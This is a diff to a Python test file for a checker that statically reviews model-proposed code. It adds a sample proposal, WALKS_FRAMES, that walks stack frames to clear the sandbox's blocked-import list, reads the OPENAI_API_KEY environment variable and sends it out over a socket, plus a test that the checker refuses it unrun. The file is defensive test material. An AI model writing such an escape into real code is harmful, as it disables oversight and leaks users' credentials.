@@ -224,6 +224,19 @@ SPAWNS = variant(IDIOMATIC, "import sys\n", "import subprocess\nimport sys\n")
 SPAWNS = variant(SPAWNS, "    return 0\n", '    subprocess.run(["true"])\n    return 0\n')
 NO_PROVENANCE = variant(IDIOMATIC, "\n    Source: cobol:PRICER/para:1000-PRICE PRICER.cbl:39-44\n",
                         "")
+# no new import: frames lead to the bootstrap's globals (to switch its audit hook off) and to
+# the builtins (to import os and socket and send the parent's environment out)
+WALKS_FRAMES = variant(IDIOMATIC, "    return 0\n", """\
+    frame = (step for step in [1]).gi_frame
+    while frame.f_back is not None:
+        frame = frame.f_back
+    frame.f_globals["BLOCKED_IMPORTS"] = set()
+    load = frame.f_builtins["__import__"]
+    secret = load("os").environ.get("OPENAI_API_KEY", "")
+    load("socket").socket(1).connect("/tmp/host.sock")
+    sys.stdout.write(secret)
+    return 0
+""")
 
 
 def sha(text: str) -> str:
@@ -473,6 +486,17 @@ def test_codecheck_refuses_proposals_without_running_them(server: FakeOpenAI,
     assert spawned in second and "+import subprocess" in second
     assert unsourced in third
     assert [r.outcome for r in ledger.audit()] == ["unverified", "unverified", "error"]
+
+
+def test_a_frame_walking_escape_without_new_imports_is_refused_unrun(
+        server: FakeOpenAI, ledger: Ledger) -> None:
+    server.script(proposal(WALKS_FRAMES))
+    result = refine(server, ledger, never_run, max_repairs=0)
+    assert not result.accepted and result.source == DETERMINISTIC
+    reason = result.attempts[0].reason
+    assert "static checks (the proposal was not run)" in reason
+    for attribute in ("gi_frame", "f_back", "f_globals", "f_builtins"):
+        assert f"[internal-attribute] attribute {attribute}" in reason, reason
 
 
 def test_invented_provenance_is_refused(server: FakeOpenAI) -> None:
